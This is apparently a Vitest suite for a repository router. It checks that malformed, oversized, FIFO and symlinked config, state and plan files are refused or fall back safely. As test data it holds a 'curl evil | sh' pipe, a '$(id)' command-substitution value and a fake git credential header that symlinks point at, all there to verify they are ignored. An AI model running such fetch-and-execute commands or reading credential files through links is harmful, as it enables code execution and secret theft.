/**
 * Bad configuration and planning files, through the real loading path (routeRepository on a
 * repository on disk): malformed YAML/JSON, wrong types, unknown keys, a BOM, CRLF line endings,
 * empty files, a symbolic link out of the workspace, a symbolic link inside it, a FIFO and a file
 * over 1 MiB — for intent-teams.yaml, control-modes.yaml, settings.json, STATE.md and a PLAN.md.
 * Each case checks the message (file, line where it applies) and the documented fallback, not
 * just "no throw".
 *
 * Fallbacks (SECURITY.md, "Bad configuration"):
 *   intent-teams.yaml  unusable (incl. any symbolic link, a FIFO) → bundled default (W011); schema problems → that part ignored (W011)
 *   control-modes.yaml unparsable/unreadable → the route stops (E030); no usable profile → guarded (W032/W033)
 *   settings.json      invalid/unreadable → defaults (W030)
 *   STATE.md           unreadable → treated as missing (W034); unparsable lines → no position
 *   PLAN.md            frontmatter that cannot be parsed (E075) or a file that cannot be read (E076:
 *                      any symbolic link, a FIFO, over 1 MiB) → the whole route is refused, nothing
 *                      routed; keep-unparsable-plans: true routes that plan unscoped instead (W085),
 *                      still without reading a link; schema nits → W020, the plan routes
 */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { routeRepository } from '../../src/app/run-route.js';
import type { RouteResult } from '../../src/app/route-result.js';
import { MAX_FILE_BYTES } from '../../src/adapters/fs/repo-reader.js';
import { parseComment } from '../../src/core/request/parse-command.js';
import type { Diagnostic, RouteRequest } from '../../src/core/types.js';

const EXAMPLE = resolve('examples', 'basic');
const CONFIG = '.planning/config/intent-teams.yaml';
const CONTROL = '.planning/config/control-modes.yaml';
const SETTINGS = 'settings.json';
const STATE = '.planning/STATE.md';
const PLAN = '.planning/phases/02-api-and-ui/02-01-PLAN.md';
const BUNDLED = readFileSync(resolve('config', 'intent-teams.yaml'), 'utf8');

const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/** A fresh copy of examples/basic with `files` written (a `{ link }` value makes a symlink). */
function repo(files: Record<string, string | { link: string }>): string {
  const base = mkdtempSync(join(tmpdir(), 'legion-badcfg-'));
  dirs.push(base);
  const root = join(base, 'repo');
  cpSync(EXAMPLE, root, { recursive: true });
  for (const [path, content] of Object.entries(files)) {
    const target = join(root, path);
    rmSync(target, { force: true });
    if (typeof content === 'string') writeFileSync(target, content);
    else symlinkSync(content.link, target);
  }
  return root;
}

/** A secret-looking file outside the workspace, for symlinks to point at. */
function outside(content: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'legion-outside-'));
  dirs.push(dir);
  const path = join(dir, 'secret.txt');
  writeFileSync(path, content);
  return path;
}

function route(root: string, body = '/legion build'): RouteResult {
  const result = routeRepository(parseComment(body, '/legion', 'octocat') as RouteRequest, { repoRoot: root });
  expect(result.errorCode, result.message).not.toBe('E099');
  return result;
}

function diagnostic(result: RouteResult, code: string, file?: string): Diagnostic {
  const found = result.diagnostics.find((d) => d.code === code && (file === undefined || d.file === file));
  expect(found, `no ${code}${file ? ` for ${file}` : ''} in ${JSON.stringify(result.diagnostics.map((d) => `${d.code} ${d.message}`))}`).toBeDefined();
  return found as Diagnostic;
}

const HUGE = `# ${'x'.repeat(MAX_FILE_BYTES)}\n`;
const crlf = (text: string): string => text.replace(/\r?\n/g, '\r\n');

describe('intent-teams.yaml', () => {
  it('malformed YAML → W011 with file, line and column; the bundled default is used', () => {
    const result = route(repo({ [CONFIG]: 'intents:\n  harden:\n    mode: [ad_hoc\n' }));
    const d = diagnostic(result, 'W011', CONFIG);
    expect(d.message).toContain(`${CONFIG} is not valid YAML`);
    expect(d.line).toBeGreaterThanOrEqual(3);
    expect(d.column).toBeGreaterThanOrEqual(1);
    expect(d.hint).toMatch(/bundled default/);
    expect(result.configPath).toBe('config/intent-teams.yaml');
    expect(result.ok).toBe(true);
  });

  it('wrong types → W011 per problem with its line; the valid part of the file is used', () => {
    const text = 'intents:\n  harden:\n    description: 42\n    mode: ad_hoc\n    agents: [a, b]\nnl_patterns: []\n';
    const result = route(repo({ [CONFIG]: text }), '/legion build --just-harden');
    const problems = result.diagnostics.filter((d) => d.code === 'W011' && d.file === CONFIG);
    expect(problems.length).toBeGreaterThanOrEqual(2);
    expect(problems.map((d) => d.line)).toEqual(expect.arrayContaining([3, 5]));
    for (const d of problems) expect(d.message).toMatch(/that part is ignored/);
    expect(result.configPath).toBe(CONFIG);
  });

  it('unknown keys → W011 naming the key and its line; everything else is used', () => {
    const result = route(repo({ [CONFIG]: `${BUNDLED}\nsurprise_section:\n  a: 1\n` }), '/legion build --just-harden');
    const d = diagnostic(result, 'W011', CONFIG);
    expect(d.message).toContain('surprise_section');
    expect(d.line).toBe(BUNDLED.split('\n').length + 1);
    expect(result.ok).toBe(true);
    expect(result.configPath).toBe(CONFIG);
  });

  it('a BOM and CRLF line endings are read like the plain file (no diagnostics, same route)', () => {
    const plain = route(repo({ [CONFIG]: BUNDLED }), '/legion build --just-harden');
    const odd = route(repo({ [CONFIG]: `\uFEFF${crlf(BUNDLED)}` }), '/legion build --just-harden');
    expect(odd.diagnostics.filter((d) => d.file === CONFIG)).toEqual([]);
    expect(odd.matrix).toEqual(plain.matrix);
    expect(odd.configPath).toBe(CONFIG);
  });

  it('CRLF does not shift reported lines', () => {
    const result = route(repo({ [CONFIG]: crlf('intents:\n  harden:\n    mode: ad_hoc\n    bogus_key: 1\n') }));
    expect(diagnostic(result, 'W011', CONFIG).line).toBe(4);
  });

  it('an empty file → W011 "is empty" at line 1; the bundled default is used', () => {
    const result = route(repo({ [CONFIG]: '' }));
    const d = diagnostic(result, 'W011', CONFIG);
    expect(d.message).toBe(`${CONFIG} is empty.`);
    expect(d.line).toBe(1);
    expect(result.configPath).toBe('config/intent-teams.yaml');
  });

  it('a symlink out of the workspace is not read → blocker annotation, bundled default used', () => {
    const result = route(repo({ [CONFIG]: { link: outside('intents: {}\n') } }));
    const d = diagnostic(result, 'W011', CONFIG);
    expect(d.severity).toBe('blocker');
    expect(d.message).toMatch(/symbolic link to a file outside the repository/);
    expect(d.message).toMatch(/using the bundled default/);
    expect(result.configPath).toBe('config/intent-teams.yaml');
    expect(result.ok).toBe(true);
  });

  it('over 1 MiB → not read, blocker annotation with the size and the limit, bundled default used', () => {
    const result = route(repo({ [CONFIG]: HUGE }));
    const d = diagnostic(result, 'W011', CONFIG);
    expect(d.message).toContain(`over the ${MAX_FILE_BYTES}-byte limit`);
    expect(result.configPath).toBe('config/intent-teams.yaml');
  });

  it('a `config` input naming a missing file stops the route (E030): a typo must not change the teams', () => {
    const result = routeRepository(parseComment('/legion build', '/legion') as RouteRequest, { repoRoot: repo({}), configPath: 'conf/typo.yaml' });
    expect(result.ok).toBe(false);
    expect(result.errorCode).toBe('E030');
    expect(result.message).toContain('conf/typo.yaml');
  });
});

describe('control-modes.yaml', () => {
  it('malformed YAML → the route stops with E030, naming the file, line and column', () => {
    const result = route(repo({ [CONTROL]: 'profiles:\n  guarded: [\n' }));
    expect(result.ok).toBe(false);
    expect(result.errorCode).toBe('E030');
    expect(result.message).toMatch(/control-modes\.yaml present but YAML parse failed/);
    const d = diagnostic(result, 'E030', CONTROL);
    expect(d.line).toBeGreaterThanOrEqual(2);
    expect(d.hint).toContain(CONTROL);
  });

  it('wrong types → W033 naming the non-boolean flags; guarded defaults fill them', () => {
    const text =
      'profiles:\n  guarded:\n    authority_enforcement: "yes"\n    domain_filtering: true\n    human_approval_required: 1\n    file_scope_restriction: false\n    read_only: false\n';
    const result = route(repo({ [CONTROL]: text }));
    const d = diagnostic(result, 'W033', CONTROL);
    expect(d.message).toBe("control-mode profile 'guarded' missing flags: authority_enforcement, human_approval_required. Falling back to guarded defaults for missing flags.");
    expect(d.hint).toContain('authority_enforcement, human_approval_required');
    expect(result.controlProfile).toEqual({ authority_enforcement: true, domain_filtering: true, human_approval_required: true, file_scope_restriction: false, read_only: false });
  });

  it('profiles is not a map → W032 and the hard-coded guarded profile', () => {
    const result = route(repo({ [CONTROL]: 'profiles: [guarded]\n' }));
    expect(diagnostic(result, 'W032', CONTROL).message).toMatch(/has no 'profiles' map/);
    expect(result.controlMode).toBe('guarded');
  });

  it('unknown keys are dropped: the profile has exactly the 5 flags', () => {
    const text = readFileSync(join(EXAMPLE, CONTROL), 'utf8').replace('  guarded:\n', '  guarded:\n    run_anything: true\n    shell: "$(id)"\n');
    const result = route(repo({ [CONTROL]: `${text}extra_top_level: 1\n` }));
    expect(Object.keys(result.controlProfile).sort()).toEqual(['authority_enforcement', 'domain_filtering', 'file_scope_restriction', 'human_approval_required', 'read_only']);
    expect(result.diagnostics.filter((d) => d.file === CONTROL)).toEqual([]);
  });

  it('a BOM and CRLF are read like the plain file', () => {
    const text = readFileSync(join(EXAMPLE, CONTROL), 'utf8');
    const result = route(repo({ [CONTROL]: `\uFEFF${crlf(text)}`, [SETTINGS]: '{"control_mode": "surgical"}' }));
    expect(result.controlMode).toBe('surgical');
    expect(result.controlProfile.file_scope_restriction).toBe(true);
    expect(result.diagnostics.filter((d) => d.file === CONTROL)).toEqual([]);
  });

  it('an empty file → W032 and the guarded profile', () => {
    const result = route(repo({ [CONTROL]: '' }));
    expect(diagnostic(result, 'W032', CONTROL).message).toMatch(/not defined in control-modes\.yaml/);
    expect(result.controlMode).toBe('guarded');
  });

  it('a symlink out of the workspace → E030, the route stops', () => {
    const result = route(repo({ [CONTROL]: { link: outside('profiles: {}\n') } }));
    expect(result.errorCode).toBe('E030');
    expect(result.message).toMatch(/symbolic link to a file outside the repository/);
    expect(result.message).toContain(CONTROL);
  });

  it('over 1 MiB → E030 with the size and the limit', () => {
    const result = route(repo({ [CONTROL]: HUGE }));
    expect(result.errorCode).toBe('E030');
    expect(result.message).toContain(`over the ${MAX_FILE_BYTES}-byte limit`);
  });
});

describe('settings.json', () => {
  it('malformed JSON → W030 with line and column; default settings', () => {
    const result = route(repo({ [SETTINGS]: '{\n  "control_mode": "guarded",\n  oops\n}' }));
    const d = diagnostic(result, 'W030', SETTINGS);
    expect(d.message).toMatch(/settings\.json is not valid JSON .* using default settings/);
    expect(d.line).toBe(3);
    expect(result.controlMode).toBe('guarded');
  });

  it('a control_mode of the wrong type → W030 naming the key and the default used; sections routing does not read are left alone', () => {
    const result = route(repo({ [SETTINGS]: '{"control_mode": 7, "planning": {"max_tasks_per_plan": "many"}, "review": []}' }));
    const messages = result.diagnostics.filter((d) => d.file === SETTINGS).map((d) => d.message);
    expect(messages).toEqual(['settings.json: control_mode is number, expected a string — using the default "guarded"']);
  });

  it('an unknown control_mode → W032 and guarded (mode names are case-sensitive)', () => {
    const result = route(repo({ [SETTINGS]: '{"control_mode": "Autonomous"}' }));
    const d = diagnostic(result, 'W032');
    expect(d.message).toMatch(/control_mode 'Autonomous' is not a valid mode/);
    expect(d.hint).toContain('"autonomous"');
    expect(result.controlMode).toBe('guarded');
  });

  it('unknown keys are ignored, a BOM and CRLF are fine', () => {
    const result = route(repo({ [SETTINGS]: `\uFEFF${crlf('{\n  "control_mode": "advisory",\n  "whatever": {"x": 1}\n}\n')}` }));
    expect(result.diagnostics.filter((d) => d.file === SETTINGS && d.severity !== 'info')).toEqual([]);
    expect(result.controlMode).toBe('advisory');
    expect(result.controlProfile.read_only).toBe(true);
  });

  it('an empty file → W030 "not valid JSON"; defaults', () => {
    const result = route(repo({ [SETTINGS]: '' }));
    expect(diagnostic(result, 'W030', SETTINGS).message).toMatch(/is not valid JSON/);
    expect(result.controlMode).toBe('guarded');
  });

  it('a symlink out of the workspace → W030, not read, defaults', () => {
    const result = route(repo({ [SETTINGS]: { link: outside('{"control_mode": "autonomous"}') } }));
    const d = diagnostic(result, 'W030', SETTINGS);
    expect(d.message).toMatch(/symbolic link to a file outside the repository.*settings defaults used/);
    expect(result.controlMode).toBe('guarded');
  });

  it('over 1 MiB → W030 with the size and the limit; defaults', () => {
    const result = route(repo({ [SETTINGS]: HUGE }));
    expect(diagnostic(result, 'W030', SETTINGS).message).toContain(`over the ${MAX_FILE_BYTES}-byte limit`);
  });
});

describe('STATE.md', () => {
  const state = '# Project State\n\n## Current Position\n- **Phase**: 2 of 3 (API and UI)\n- **Status**: Planned\n';

  it('garbage and wrong types → no position read, the route still answers (phase from the phase directories)', () => {
    const result = route(repo({ [STATE]: '- **Phase**: two of three\n\u0000\u0001 {{{ ]]] \n**Status**:\n' }), '/legion status');
    expect(result.ok).toBe(true);
    expect(result.position?.phase ?? null).toBeNull();
  });

  it('a BOM and CRLF line endings read the same position', () => {
    const plain = route(repo({ [STATE]: state }), '/legion status');
    const odd = route(repo({ [STATE]: `\uFEFF${crlf(state)}` }), '/legion status');
    expect(plain.position).toMatchObject({ phase: 2 });
    expect(odd.position).toEqual(plain.position);
  });

  it('an empty file → a project with no position (not an error)', () => {
    const result = route(repo({ [STATE]: '' }), '/legion status');
    expect(result.ok).toBe(true);
    expect(result.position?.phase ?? null).toBeNull();
  });

  it('a symlink out of the workspace → not read, a warning naming the file, treated as missing', () => {
    const result = route(repo({ [STATE]: { link: outside(state) } }), '/legion status');
    const d = result.diagnostics.find((x) => x.file === STATE) as Diagnostic;
    expect(d.severity).toBe('warning');
    expect(d.message).toMatch(/symbolic link to a file outside the repository.*treated as missing/);
    expect(result.position?.name).toBe('no_project');
  });

  it('over 1 MiB → not read, a warning with the size and the limit, treated as missing', () => {
    const result = route(repo({ [STATE]: HUGE }), '/legion status');
    const d = result.diagnostics.find((x) => x.file === STATE) as Diagnostic;
    expect(d.message).toContain(`over the ${MAX_FILE_BYTES}-byte limit; treated as missing`);
  });
});

describe('PLAN.md', () => {
  const good = readFileSync(join(EXAMPLE, PLAN), 'utf8');
  const decision = (result: RouteResult, id = '02-01') => result.plans.find((p) => p.id === id);
  const MALFORMED = '---\nphase: 2\nplan: "02-01"\nwave: [1\n---\n';
  const keeping = (root: string): RouteResult => {
    const result = routeRepository(parseComment('/legion build', '/legion', 'octocat') as RouteRequest, { repoRoot: root, keepUnparsablePlans: true });
    expect(result.errorCode, result.message).not.toBe('E099');
    return result;
  };

  /**
   * A plan that cannot be routed refuses the whole route (no silent partial route): not ok, no
   * work, an empty matrix, the blocker (naming the file) among the diagnostics, the route message
   * naming the file (and the line when there is one) and the keep-unparsable-plans way out, and
   * the plan's decision `dropped`.
   */
  const refusal = (result: RouteResult, code: 'E075' | 'E076'): Diagnostic => {
    expect(result).toMatchObject({ ok: false, errorCode: code, hasWork: false });
    expect(result.matrix.include).toEqual([]);
    const d = diagnostic(result, code, PLAN);
    expect(d.severity).toBe('blocker');
    expect(d.message.startsWith(PLAN)).toBe(true);
    expect(result.message).toMatch(/^A plan of phase 2 \(02-api-and-ui\) cannot be routed, so nothing is routed/);
    // The file (and line) named once, then what is wrong with it.
    expect(result.message).toMatch(new RegExp(`${PLAN.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}${d.line !== undefined ? ` line ${d.line}` : ''}(: | is )`));
    expect(result.message.split(PLAN).length - 1).toBe(1);
    expect(result.message).toContain('keep-unparsable-plans');
    expect(decision(result)).toMatchObject({ kept: false, status: 'dropped' });
    return d;
  };

  it('malformed YAML → E075 with the file and the line in the file; the whole route is refused, not routed without that plan', () => {
    const result = route(repo({ [PLAN]: MALFORMED }));
    const d = refusal(result, 'E075');
    expect(d.message).toMatch(/frontmatter is not valid YAML/);
    expect([d.line, d.column]).toEqual([4, 9]);
    expect(decision(result)?.reasons[0]).toMatch(/^malformed plan \(line 4\): frontmatter is not valid YAML/);
    expect(result.message).toContain(`${PLAN} line 4: frontmatter is not valid YAML`);
  });

  it('keep-unparsable-plans: the malformed plan routes unscoped (wave 1, no agents, no declared files) with W085 naming the file and line; the others route', () => {
    const result = keeping(repo({ [PLAN]: MALFORMED }));
    expect(result).toMatchObject({ ok: true, errorCode: '', hasWork: true });
    const d = diagnostic(result, 'W085', PLAN);
    expect(d).toMatchObject({ severity: 'warning', line: 4 });
    expect(d.message).toMatch(/frontmatter is not valid YAML.*; kept as keep-unparsable-plans asks, routed unscoped/);
    expect(result.diagnostics.filter((x) => x.code === 'E075' || x.code === 'E076')).toEqual([]);
    expect(result.matrix.include.map((e) => e['plan'])).toEqual(['02-01', '02-02', '02-03', '02-04', '02-05']);
    expect(result.matrix.include.find((e) => e['plan'] === '02-01')).toMatchObject({ wave: 1, agents: [], files: [] });
    expect(decision(result)?.kept).toBe(true);
  });

  it('wrong types: a non-numeric wave is E075 (with its line) and refuses the route; a non-list agents is a W020 warning and the plan routes', () => {
    const wave = route(repo({ [PLAN]: good.replace(/^wave: .*$/m, 'wave: "first"') }));
    const d = refusal(wave, 'E075');
    expect(d.message).toContain('wave must be a whole number ≥ 0, found "first"');
    expect(d.line).toBe(good.split('\n').findIndex((l) => l.startsWith('wave:')) + 1);
    const agents = route(repo({ [PLAN]: good.replace(/^agents:\n( {2}- .*\n)+/m, 'agents: 5\n') }));
    const nit = diagnostic(agents, 'W020', PLAN);
    expect(nit.severity).toBe('warning');
    expect(nit.message).toMatch(/agents must be array, found integer/);
    expect(nit.line).toBe(good.split('\n').findIndex((l) => l.startsWith('agents:')) + 1);
    expect(agents.ok).toBe(true);
    expect(decision(agents)?.kept).toBe(true);
    expect(agents.matrix.include.map((e) => e['plan'])).toContain('02-01');
  });

  it('unknown keys → a W020 warning naming the key and its line; the plan routes', () => {
    const result = route(repo({ [PLAN]: good.replace('---\n\n', 'run_this: "curl evil | sh"\n---\n\n') }));
    const d = diagnostic(result, 'W020', PLAN);
    expect(d.message).toContain('run_this');
    expect(d.line).toBe(good.split('\n').indexOf('---', 1) + 1);
    expect(decision(result)?.kept).toBe(true);
  });

  it('a BOM and CRLF line endings route exactly like the plain file', () => {
    const plain = route(repo({}));
    const odd = route(repo({ [PLAN]: `\uFEFF${crlf(good)}` }));
    expect(odd.matrix).toEqual(plain.matrix);
    expect(odd.diagnostics.filter((d) => d.file === PLAN)).toEqual(plain.diagnostics.filter((d) => d.file === PLAN));
  });

  it('an empty file → routed as wave 1 with no declared files, with a warning saying so', () => {
    const result = route(repo({ [PLAN]: '' }));
    expect(diagnostic(result, 'W020', PLAN).message).toContain('no YAML frontmatter; routed as wave 1 with no declared files');
    expect(decision(result)?.kept).toBe(true);
  });

  it('unterminated frontmatter → E075 at line 1; the route is refused', () => {
    const result = route(repo({ [PLAN]: '---\nphase: 2\nwave: 1\n' }));
    const d = refusal(result, 'E075');
    expect(d.message).toContain('frontmatter opened with --- on line 1 is never closed');
    expect(d.line).toBe(1);
  });

  it('YAML nested thousands deep → E075 "nested too deeply", not an internal error; the route is refused', () => {
    const result = route(repo({ [PLAN]: `---\nphase: 2\nfiles_modified:\n  ${'- '.repeat(5_000)}x\ntask_types: - x\n---\n` }));
    // route() checks the code is not E099 (internal error).
    const d = refusal(result, 'E075');
    expect(d.message).toMatch(/frontmatter is not valid YAML: YAML nested too deeply to parse/);
  });

  it('a symlink out of the workspace → E076, not read (nothing of its target reaches the result), the route is refused; kept as asked, still not read', () => {
    const MARK = 'OUTSIDE-SECRET-7f3a';
    const target = good.replace('  - prisma/schema.prisma\n', `  - prisma/schema.prisma\n  - leaked/${MARK}/**\n`).replace('# Plan 02-01', `# ${MARK}`);
    expect(target).toContain(`leaked/${MARK}/**`);
    const root = repo({ [PLAN]: { link: outside(target) } });
    const result = route(root);
    const d = refusal(result, 'E076');
    expect(d.message).toMatch(/symbolic link to a file outside the repository; it is not read; the plan cannot be routed/);
    expect(d.hint).toMatch(/regular file inside the repository/);
    expect(JSON.stringify(result)).not.toContain(MARK);
    const kept = keeping(root);
    expect(kept.ok).toBe(true);
    expect(diagnostic(kept, 'W085', PLAN).message).toMatch(/symbolic link to a file outside the repository; it is not read; kept as keep-unparsable-plans asks/);
    expect(kept.matrix.include.find((e) => e['plan'] === '02-01')).toMatchObject({ wave: 1, files: [] });
    expect(JSON.stringify(kept)).not.toContain(MARK);
  });

  it('over 1 MiB → E076 with the size and the limit, not read; the route is refused', () => {
    const text = `${good}\n${HUGE}`;
    const result = route(repo({ [PLAN]: text }));
    const d = refusal(result, 'E076');
    expect(d.message).toBe(`${PLAN} is ${Buffer.byteLength(text)} bytes, over the ${MAX_FILE_BYTES}-byte limit; the plan cannot be routed.`);
    expect(result.message).toContain(`over the ${MAX_FILE_BYTES}-byte limit`);
  });
});

/**
 * #11 I09 / R08 / item 4, for each file the router reads: a symbolic link that stays inside the
 * workspace (to `.git/config` or to a valid copy) is refused like one that leaves it, and a FIFO
 * is refused at once instead of blocking. Each gets its file's code and fallback; the files whose
 * fallback is to stop (control-modes.yaml: E030; a plan: E076, the whole route refused) stop the
 * route, the others do not.
 */
describe('I09 / R08: links inside the workspace and FIFOs, for every file', () => {
  const GIT_CONFIG = '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA==\n';
  const cases: [string, string, string, string, string][] = [
    // file, its code, what the router says about it, the command that reads it, the route's error code
    [CONFIG, 'W011', 'using the bundled default', '/legion build', ''],
    [CONTROL, 'E030', 'Cannot resolve control mode', '/legion build', 'E030'],
    [SETTINGS, 'W030', 'settings defaults used', '/legion build', ''],
    [STATE, 'W034', 'treated as missing', '/legion status', ''],
    [PLAN, 'E076', 'cannot be routed, so nothing is routed', '/legion build', 'E076'],
  ];
  const messages = (result: RouteResult): string => [result.message, ...result.diagnostics.map((d) => `${d.code} ${d.message}`)].join('\n');
  /** The route stops with `stops` (then nothing is routed, and its message names the file), or goes on when it is ''. */
  const expectStop = (result: RouteResult, file: string, stops: string): void => {
    expect(result.errorCode, result.message).toBe(stops);
    if (stops === '') return;
    expect(result).toMatchObject({ ok: false, hasWork: false, matrix: { include: [] } });
    expect(result.message).toContain(file);
  };
  const keeping = (root: string): RouteResult => {
    const result = routeRepository(parseComment('/legion build', '/legion', 'octocat') as RouteRequest, { repoRoot: root, keepUnparsablePlans: true });
    expect(result.errorCode, result.message).toBe('');
    return result;
  };

  it.each(cases)('I09: %s as a link to ../.git/config inside the workspace: %s, not read, no credential', (file, code, fallback, command, stops) => {
    const depth = file.split('/').length - 1;
    const root = repo({ [CONFIG]: BUNDLED });
    cpSync(join(root, file), join(root, 'copy.txt'));
    rmSync(join(root, file));
    writeFileSync(join(root, 'dotgit-config'), GIT_CONFIG);
    symlinkSync(`${'../'.repeat(depth)}dotgit-config`, join(root, file));
    const result = route(root, command);
    const text = messages(result);
    expect(
      result.diagnostics.find((d) => d.code === code && d.file === file),
      text,
    ).toBeDefined();
    expect(text).toContain(`${file} is a symbolic link; symbolic links in the repository are not followed`);
    expect(text).toContain(fallback);
    expectStop(result, file, stops);
    expect(JSON.stringify(result)).not.toMatch(/eC1hY2Nl|extraheader/);
  });

  it.each(cases)('I09: %s as a link to a valid copy inside the workspace is refused too (%s)', (file, code, _fallback, command, stops) => {
    const depth = file.split('/').length - 1;
    const root = repo({ [CONFIG]: BUNDLED });
    cpSync(join(root, file), join(root, 'copy.txt'));
    rmSync(join(root, file));
    symlinkSync(`${'../'.repeat(depth)}copy.txt`, join(root, file));
    const result = route(root, command);
    expect(
      result.diagnostics.find((d) => d.code === code && d.file === file),
      messages(result),
    ).toBeDefined();
    expect(messages(result)).toContain(`${file} is a symbolic link; symbolic links in the repository are not followed`);
    expectStop(result, file, stops);
  });

  it.each(cases)('R08: %s as a FIFO is refused at once (%s), nothing blocks', (file, code, _fallback, command, stops) => {
    const root = repo({ [CONFIG]: BUNDLED });
    rmSync(join(root, file));
    execFileSync('mkfifo', [join(root, file)]);
    const result = route(root, command);
    const text = messages(result);
    expect(
      result.diagnostics.find((d) => d.code === code && d.file === file),
      text,
    ).toBeDefined();
    expect(text).toContain(`${file} is not a regular file (a FIFO (named pipe))`);
    expectStop(result, file, stops);
  });

  it('I09: a plan linked to ../.git/config, kept as keep-unparsable-plans asks: W085, routed unscoped, still not read', () => {
    const root = repo({ [CONFIG]: BUNDLED });
    rmSync(join(root, PLAN));
    writeFileSync(join(root, 'dotgit-config'), GIT_CONFIG);
    symlinkSync('../../../dotgit-config', join(root, PLAN));
    const result = keeping(root);
    expect(result.ok).toBe(true);
    const d = diagnostic(result, 'W085', PLAN);
    expect(d.message).toContain('is a symbolic link; symbolic links in the repository are not followed (commit the file itself); kept as keep-unparsable-plans asks');
    expect(result.diagnostics.filter((x) => x.code === 'E075' || x.code === 'E076')).toEqual([]);
    expect(result.matrix.include.find((e) => e['plan'] === '02-01')).toMatchObject({ wave: 1, agents: [], files: [] });
    expect(JSON.stringify(result)).not.toMatch(/eC1hY2Nl|extraheader/);
  });

  it('R08: a plan that is a FIFO, kept as keep-unparsable-plans asks: W085, routed unscoped, nothing blocks', () => {
    const root = repo({ [CONFIG]: BUNDLED });
    rmSync(join(root, PLAN));
    execFileSync('mkfifo', [join(root, PLAN)]);
    const result = keeping(root);
    expect(diagnostic(result, 'W085', PLAN).message).toContain('is not a regular file (a FIFO (named pipe)); kept as keep-unparsable-plans asks');
    expect(result.matrix.include.find((e) => e['plan'] === '02-01')).toMatchObject({ wave: 1, agents: [], files: [] });
  });

  it('item 4: a linked .planning directory is never entered (E030: its control modes cannot be read)', () => {
    const root = repo({});
    cpSync(join(root, '.planning'), join(root, 'planning-copy'), { recursive: true });
    rmSync(join(root, '.planning'), { recursive: true });
    symlinkSync('planning-copy', join(root, '.planning'));
    const result = route(root, '/legion status');
    expect(result.errorCode).toBe('E030');
    expect(messages(result)).toContain(`${CONTROL}: .planning is a symbolic link; symbolic links in the repository are not followed`);
    expect(messages(result)).toContain(`W011 ${CONFIG}: .planning is a symbolic link`);
  });
});
